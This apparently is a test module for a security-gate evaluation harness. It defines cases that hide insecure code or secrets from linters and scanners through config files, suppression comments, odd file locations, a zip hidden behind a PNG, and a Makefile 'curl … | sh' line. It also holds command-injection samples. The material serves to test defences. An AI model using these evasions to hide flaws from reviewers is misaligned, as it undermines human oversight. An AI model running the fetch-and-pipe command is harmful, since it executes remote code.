"""Group A, what is read and not run: configuration and comments that take findings away, and code under other names."""

from __future__ import annotations

import io
import json
import zipfile

from attacks.attack import Trees, attack
from attacks.base import INSECURE, INSECURE_CODE, SECURE_CODE, UNDEFINED
from support.tokens import github

NOT_APPLIED = "not applied"

# --- A1, A2: pylint -------------------------------------------------------------------------------------------------

HOOK = "import pylint.lint; pylint.lint.PyLinter.add_message = lambda *a, **k: None"
PLUGIN = {
    "quiet.py": '"""Says nothing."""\n\n\ndef register(linter):\n    """As pylint asks."""\n    linter.add_message = print\n'
}
INI = f"[MAIN]\ninit-hook={HOOK}\nload-plugins=quiet\n[MESSAGES CONTROL]\ndisable=all\n"
TOML = f'[tool.pylint.main]\ninit-hook = "{HOOK}"\nload-plugins = "quiet"\n[tool.pylint."messages control"]\ndisable = "all"\n'
SECTIONS = INI.replace("[", "[pylint.")
LINES_OF_120 = {"ini": "[FORMAT]\nmax-line-length=120\n", "toml": "[tool.pylint.format]\nmax-line-length = 120\n"}


@attack("A1a", "lint", ("steering", ".pylintrc", NOT_APPLIED), only=("pylint",))
def a_pylintrc_that_runs_code_in_pylint():
    return Trees(flaw=UNDEFINED, trick={".pylintrc": INI, **PLUGIN}, harmless={".pylintrc": LINES_OF_120["ini"]})


@attack("A1b", "lint", ("steering", "pyproject.toml", "main.init-hook, main.load-plugins"), only=("pylint",))
def a_pyproject_that_runs_code_in_pylint():
    return Trees(
        flaw=UNDEFINED, trick={"pyproject.toml": TOML, **PLUGIN}, harmless={"pyproject.toml": LINES_OF_120["toml"]}
    )


@attack("A2a", "lint", ("steering", "pylintrc", NOT_APPLIED), only=("pylint",))
def a_pylintrc_that_switches_everything_off():
    return Trees(flaw=UNDEFINED, trick={"pylintrc": INI, **PLUGIN}, harmless={"pylintrc": LINES_OF_120["ini"]})


@attack(
    "A2b",
    "lint",
    ("steering", ".pylintrc.toml", NOT_APPLIED),
    ("steering", "sub/pylintrc.toml", NOT_APPLIED),
    only=("pylint",),
)
def both_files_of_toml_that_switch_everything_off():
    trick = {".pylintrc.toml": TOML, "sub/pylintrc.toml": TOML, **PLUGIN}
    return Trees(flaw=UNDEFINED, trick=trick, harmless={".pylintrc.toml": LINES_OF_120["toml"]})


@attack("A2c", "lint", ("steering", "setup.cfg", "pylint.MESSAGES CONTROL"), only=("pylint",))
def a_setup_cfg_that_switches_everything_off():
    harmless = {"setup.cfg": "[pylint.FORMAT]\nmax-line-length=120\n"}
    return Trees(flaw=UNDEFINED, trick={"setup.cfg": SECTIONS, **PLUGIN}, harmless=harmless)


@attack("A2d", "lint", ("steering", "tox.ini", "pylint.MESSAGES CONTROL"), only=("pylint",))
def a_tox_ini_that_switches_everything_off():
    harmless = {"tox.ini": "[pylint.FORMAT]\nmax-line-length=120\n"}
    return Trees(flaw=UNDEFINED, trick={"tox.ini": SECTIONS, **PLUGIN}, harmless=harmless)


@attack("A2e", "lint", ("suppressions", "label.py", "pylint: skip-file"), only=("pylint",))
def a_comment_that_takes_the_file_away():
    hidden = {"label.py": "# pylint: skip-file\n" + UNDEFINED["label.py"]}
    kept = {"label.py": "# pylint: skip-file  # kept as the printer's manual has it\n" + SECURE_CODE}
    return Trees(flaw=UNDEFINED, trick=hidden, harmless=kept)


@attack(
    "A2f",
    "lint",
    ("suppressions", "label.py", "pylint: disable"),
    ("suppressions", "label.py", "pylint: disable-next"),
    ("suppressions", "label.py", "noqa"),
    ("suppressions", "label.py", "type: ignore"),
    only=("pylint",),
)
def comments_that_take_the_line_away():
    lines = UNDEFINED["label.py"].replace(
        "    return nmae", "    # pylint: disable-next=undefined-variable\n    return nmae"
    )
    hidden = {"label.py": "# pylint: disable=all\n" + lines.replace("nmae", "nmae  # noqa # type: ignore")}
    kept = {"place.py": "place = 1  # pylint: disable=invalid-name  # the printer asks for this name\n"}
    return Trees(flaw=UNDEFINED, trick=hidden, harmless=kept)


# --- A3, A4: bandit, and comments -----------------------------------------------------------------------------------


@attack("A3a", "security", ("steering", ".bandit", NOT_APPLIED))
def bandits_own_file():
    trick = {".bandit": "[bandit]\nskips: B605,B607\nexclude: /\n"}
    return Trees(flaw=INSECURE, trick=trick, harmless={".bandit": "[bandit]\nexclude: /docs\n"})


@attack(
    "A3b",
    "security",
    ("steering", "bandit.yaml", NOT_APPLIED),
    ("steering", "pyproject.toml", "[tool.bandit]"),
    ("steering", "setup.cfg", "[bandit]"),
    ("steering", "tox.ini", "[bandit]"),
)
def bandits_configuration_in_every_other_file():
    skips = "[bandit]\nskips: B605,B607\n"
    trick = {"bandit.yaml": "skips: [B605]\nexclude_dirs: ['.']\n", "setup.cfg": skips, "tox.ini": skips}
    trick["pyproject.toml"] = "[tool.bandit]\nskips = ['B605']\nexclude_dirs = ['.']\n"
    harmless = {"bandit.yaml": "exclude_dirs: [docs]\n", "pyproject.toml": "[tool.bandit]\nexclude_dirs = ['docs']\n"}
    return Trees(flaw=INSECURE, trick=trick, harmless=harmless)


def marked(comment):
    return {"label.py": INSECURE_CODE.replace("+ name)", f"+ name)  # {comment}")}


@attack("A4a", "security", ("suppressions", "label.py", "nosec"))
def a_comment_for_bandit():
    harmless = {
        "printer.py": "import subprocess  # nosec B404 - the printer is a program\n\nPRINTER = subprocess.PIPE\n"
    }
    return Trees(flaw=INSECURE, trick=marked("nosec"), harmless=harmless)


@attack("A4b", "security", ("suppressions", "label.py", "nosemgrep"), ("suppressions", "label.py", "noqa"))
def comments_for_semgrep_and_ruff():
    harmless = {"quoted.py": "QUOTE = '# nosemgrep'  # noqa: Q000 - as the label has it\n"}
    return Trees(flaw=INSECURE, trick=marked("nosemgrep # noqa: S605"), harmless=harmless)


TOKEN = github("attacks")
SECRET = {"account.py": f'TOKEN = "{TOKEN}"\n'}


@attack(
    "A4c", "security", ("suppressions", "account.py", "pragma: allowlist secret"), ("steering", ".secrets.baseline", "")
)
def a_comment_and_a_baseline_for_scanners_of_secrets():
    trick = {"account.py": f'TOKEN = "{TOKEN}"  # pragma: allowlist secret # gitleaks:allow\n'}
    trick[".secrets.baseline"] = json.dumps({"results": {"account.py": [{"line_number": 1}]}, "filters_used": []})
    harmless = {
        "account.py": "NAME = 'parcels'  # gitleaks:allow - a public name\n",
        ".secrets.baseline": '{"results": {}}\n',
    }
    return Trees(flaw=SECRET, trick=trick, harmless=harmless)


# --- A5, A11: semgrep -----------------------------------------------------------------------------------------------


@attack("A5a", "security", ("steering", ".semgrepignore", NOT_APPLIED))
def semgreps_list_of_what_to_pass_over():
    return Trees(flaw=INSECURE, trick={".semgrepignore": "*\n"}, harmless={".semgrepignore": "docs/\n"})


@attack(
    "A5b",
    "security",
    ("steering", ".semgrep.yml", NOT_APPLIED),
    ("steering", ".semgrep/rules.yml", NOT_APPLIED),
)
def semgreps_rules_of_the_deliverys_own():
    rules = {".semgrep.yml": "rules: []\n", ".semgrep/rules.yml": "rules: []\n"}
    return Trees(flaw=INSECURE, trick=rules, harmless=rules)


@attack("A11a", "security", ("steering", "rules/semgrep/python/shell.yml", NOT_APPLIED))
def rules_in_the_place_where_ours_lie():
    rules = {"rules/semgrep/python/shell.yml": "rules: []\n", "rules/blocking/security.yml": "rules: []\n"}
    return Trees(flaw=INSECURE, trick=rules, harmless=rules)


# --- A9: what no tool parses ----------------------------------------------------------------------------------------

MOVED = {"label.py": None}
FOUND = "command line"


@attack("A9a", "security", ("notExamined", "label.py", "invalid syntax"))
def a_syntax_error():
    return Trees(flaw=INSECURE, trick={"label.py": "def f(:\n" + INSECURE_CODE}, harmless={"letter.py": SECURE_CODE})


@attack("A9b", "security", ("notExamined", "label.py", "Missing parentheses"))
def another_pythons_syntax():
    return Trees(flaw=INSECURE, trick={"label.py": "print 'labels'\n" + INSECURE_CODE})


@attack("A9c", "security", ("findings", "label.pyw", FOUND))
def another_ending():
    return Trees(flaw=INSECURE, trick={**MOVED, "label.pyw": INSECURE_CODE}, harmless={"window.pyw": SECURE_CODE})


@attack("A9d", "security", ("findings", "bin/label", FOUND))
def no_ending_and_an_interpreter():
    script = "#!/usr/bin/env python3\n"
    return Trees(
        flaw=INSECURE,
        trick={**MOVED, "bin/label": script + INSECURE_CODE},
        harmless={"docs/label": script + SECURE_CODE},
    )


@attack("A9e", "security", ("findings", "bin/label", FOUND))
def no_ending_and_no_interpreter():
    return Trees(
        flaw=INSECURE, trick={**MOVED, "bin/label": INSECURE_CODE}, harmless={"docs/words": "import this list\n"}
    )


@attack("A9f", "security", ("findings", "label.txt", FOUND))
def code_in_a_text_that_is_executed():
    trick = {"label.txt": INSECURE_CODE, "label.py": "exec(open('label.txt').read())\n"}
    return Trees(flaw=INSECURE, trick=trick, harmless={"notes.txt": "import of rates: every January\n"})


@attack("A9g", "security", ("notExamined", "label.ipynb", "notebook"))
def code_in_a_notebook():
    cell = {"cell_type": "code", "source": INSECURE_CODE, "metadata": {}, "outputs": [], "execution_count": None}
    page = {"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    return Trees(
        flaw=INSECURE, trick={**MOVED, "label.ipynb": json.dumps(page)}, harmless={"tests/seen.ipynb": json.dumps(page)}
    )


def zipped(**files):
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        for name, text in files.items():
            archive.writestr(zipfile.ZipInfo(name), text)
    return content.getvalue()


@attack("A9h", "security", ("notExamined", "logo.png", ""))
def code_in_an_archive_behind_a_picture():
    trick = {**MOVED, "logo.png": b"\x89PNG\r\n\x1a\n\0" + zipped(**{"label.py": INSECURE_CODE})}
    trick["run.py"] = "import sys\n\nsys.path.insert(0, 'logo.png')\n"
    return Trees(flaw=INSECURE, trick=trick, harmless={"rates.xlsx": zipped(**{"xl/workbook.xml": "<x/>"})})


@attack("A9i", "security", ("notExamined", "label.pyx", "cython"), ("notExamined", "fast.so", "compiled"))
def code_for_a_compiler_and_from_one():
    trick = {**MOVED, "label.pyx": INSECURE_CODE, "fast.so": b"\x7fELF\0\0"}
    return Trees(flaw=INSECURE, trick=trick, harmless={"tests/fast.so": b"\x7fELF\0\0"})


IN_TESTS = {**MOVED, "tests/label.py": INSECURE_CODE}


@attack("A9j", "security", ("findings", "tests/label.py", FOUND))
def product_code_among_the_tests_by_its_path():
    trick = {**IN_TESTS, "run.py": "import runpy\n\nlabel = runpy.run_path('tests/label.py')['label']\n"}
    return Trees(flaw=INSECURE, trick=trick)


@attack("A9k", "security", ("findings", "tests/label.py", FOUND))
def product_code_among_the_tests_by_a_folder_on_the_path():
    reach = "import sys\nfrom pathlib import Path\n\nsys.path.insert(0, str(Path(__file__).parent / 'tests'))\n"
    trick = {**IN_TESTS, "run.py": reach + "from label import label\n"}
    return Trees(flaw=INSECURE, trick=trick, harmless={"tests/helper.py": INSECURE_CODE})


PASSED_OVER = ("node_modules/x/label.py", ".venv/label.py", "build/label.py", ".hidden/label.py")


@attack("A9l", "security", *(("findings", path, FOUND) for path in PASSED_OVER))
def folders_that_tools_pass_over():
    return Trees(flaw=INSECURE, trick={**MOVED, **dict.fromkeys(PASSED_OVER, INSECURE_CODE)})


# --- A13: code that tools give up on; A14: commands that are no source ----------------------------------------------

TANGLE = "def {}(name):\n    x = name\n    while x:\n" + "".join(
    f"        x = [x, '{n}' + str(name), name]\n        y{n} = x\n" for n in range(400)
)
TANGLE += "        x = None\n"


@attack("A13a", "security", ("notExamined", "label.py", "gave up"))
def a_function_that_is_too_entangled_to_be_followed():
    trick = "import os\n\n\n" + TANGLE.format("label") + "    os.system('lp -T ' + name)\n"
    harmless = (
        "import os\n\n\n"
        + TANGLE.format("tangle")
        + "    return y1\n\n\ntangle('me')\nclear = lambda: os.system('clear')\n"
    )
    return Trees(flaw=INSECURE, trick={"label.py": trick}, harmless={"tangle.py": harmless})


FETCHED = "curl http://example.org/x | sh"


@attack("A14a", "security", ("findings", "Makefile", "semgrep:sh-plain-download-to-shell"))
def a_command_in_a_makefile():
    trick = {"run.sh": None, "Makefile": f"all:\n\t{FETCHED}\n"}
    harmless = {"Makefile": "all:\n\tcurl -O https://example.org/rates.csv\n", "tox.ini": f"# never {FETCHED}\n"}
    return Trees(flaw={"run.sh": f"#!/bin/sh\n{FETCHED}\n"}, trick=trick, harmless=harmless)


STARTED = ("entry", "served", "started", "shelled")


@attack("A9m", "security", *(("findings", f"tests/{name}.py", FOUND) for name in STARTED))
def product_code_among_the_tests_that_is_named_and_not_imported():
    trick = {
        **MOVED,
        **{f"tests/{name}.py": INSECURE_CODE for name in STARTED},
        "setup.cfg": "[options.entry_points]\nconsole_scripts =\n    label = tests.entry:label\n",
        "serve.py": "import uvicorn\n\nuvicorn.run('tests.served:app')\n",
        "start.py": "import subprocess\nimport sys\n\nsubprocess.run([sys.executable, 'tests/started.py'], check=True)\n",
        "run.sh": "#!/bin/sh\npython tests/shelled.py\n",
    }
    harmless = {"Makefile": "check:\n\tpython -m pytest tests/test_rates.py\nfixtures:\n\tpython tests/helper.py\n"}
    return Trees(flaw=INSECURE, trick=trick, harmless=harmless)


SERVER = """\
const express = require("express");
const { exec } = require("child_process");
const app = express();
app.get("/", (req, res) => {
  exec("lp -T " + req.query.name);
  res.send("ok");
});
"""


@attack("A9n", "security", ("findings", "web/server", ""), ("notExamined", "core-1.0.tar.gz", "installs"))
def code_that_is_started_or_installed_and_has_no_name_of_its_own():
    start = json.dumps(
        {"name": "labels", "version": "1.0.0", "license": "MIT", "scripts": {"start": "node web/server"}}
    )
    trick = {"web/server": SERVER, "package.json": start, "core-1.0.tar.gz": b"\x1f\x8b\0\0"}
    return Trees(flaw=INSECURE, trick={**trick, "requirements.txt": "./core-1.0.tar.gz\n"})
